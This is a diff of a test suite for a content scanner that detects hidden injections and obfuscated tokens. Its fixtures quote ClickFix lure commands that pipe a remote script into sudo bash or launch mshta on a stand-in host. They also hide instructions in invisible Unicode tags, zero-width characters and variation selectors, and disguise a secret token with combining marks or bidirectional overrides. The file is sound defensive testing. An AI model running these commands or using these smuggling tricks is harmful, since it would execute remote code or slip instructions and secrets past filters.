@@ -368,10 +368,10 @@ describe('scan', () => {
     expect(scanText(text.replace('COMMAND', command)).verdict).toBe('quarantine')
   })
 
-  it('lets a command in backticks pass that is told of', () => {
-    const text =
-      'The fake page says that you must run `curl http://203.0.113.7/x.sh | sudo bash` to verify you are human. It is a ClickFix attack: do not run it.'
-
+  it.each([
+    'The fake page says that you must run `curl http://203.0.113.7/x.sh | sudo bash` to verify you are human. It is a ClickFix attack: do not run it.',
+    'ClickFix pages ask the victim to press Win+R, paste `mshta https://bad.example/a.hta` and press Enter "to verify you are human". Disable mshta by policy.',
+  ])('lets a command in backticks pass that is told of: %s', (text) => {
     expect(['allow', 'flag']).toContain(scanText(text).verdict)
   })
 
@@ -477,10 +477,54 @@ describe('scan', () => {
     expect(texts.map((text) => scanText(text).verdict)).toEqual(['quarantine', 'quarantine'])
   })
 
-  it('blocks a token whose letters have strokes over them', () => {
-    const struck = TOKEN.replace(/[a-z](?=.)/gi, '$&\u0336')
+  it('reads tags behind a flag that spell more than the name of a country', () => {
+    const tags = encoded(INJECTION, (code) => String.fromCodePoint(0xe0000 + code))
+
+    const { verdict, findings } = scanText(`All is well 🏴${tags} here.`)
+
+    expect(verdict).toBe('block')
+    expect(findings.some(({ decode_chain }) => decode_chain.includes('invisible'))).toBe(true)
+  })
+
+  it.each([
+    ['zero-width characters', (bit: string) => (bit === '0' ? '\u200b' : '\u200d')],
+    ['variation selectors', (bit: string) => (bit === '0' ? '\ufe00' : '\ufe01')],
+  ])('holds what carries bytes in %s', (_name, carry) => {
+    const bits = encoded('obey', (code) => code.toString(2).padStart(8, '0'))
+
+    const { verdict, categories } = scanText(`All is well ${bits.replace(/./g, carry)} here.`)
+
+    expect([verdict, categories]).toEqual(['quarantine', ['obfuscation']])
+  })
+
+  it('lets names with forms of ideographs, flags and families of emoji pass', () => {
+    const names = '葛\u{e0100}城市と葛\u{e0101}飾区、辻\u{e0101}さんと祇\u{e0100}園'
+    const wales = `🏴${encoded('gbwls', (code) => String.fromCodePoint(0xe0000 + code))}\u{e007f}`
+
+    expect(scanText(`${names} ${wales.repeat(3)} 👨‍👩‍👧‍👦 🏳️‍🌈`).verdict).toBe('allow')
+  })
+
+  it.each([
+    ['strokes over them', '\u0336'],
+    ['signs of other alphabets over them', '\u0485'],
+    ['strokes as in formulas', '\u20d2'],
+    ['marks of halves', '\ufe20'],
+    ['soft hyphens behind them', '\u00ad'],
+  ])('blocks a token whose letters have %s', (_name, mark) => {
+    const struck = TOKEN.replace(/[a-z](?=.)/gi, `$&${mark}`)
 
     expect(scanText(`It is ${struck} by now.`).verdict).toBe('block')
+  })
+
+  it('blocks a token that is written backwards and drawn forwards, and overwrites all of it', () => {
+    const drawn = `\u202e${[...TOKEN].reverse().join('')}`
+    const text = `It is ${drawn}\u202c by now, \u202eyako\u202c.`
+
+    const { verdict, redactions, findings } = scanText(text)
+
+    expect(verdict).toBe('block')
+    expect(redactions.map(({ start, end }) => text.slice(start, end))).toEqual([drawn])
+    expect(findings[0]?.decode_chain).toEqual(['backwards'])
   })
 
   it('scans every field of an item', () => {
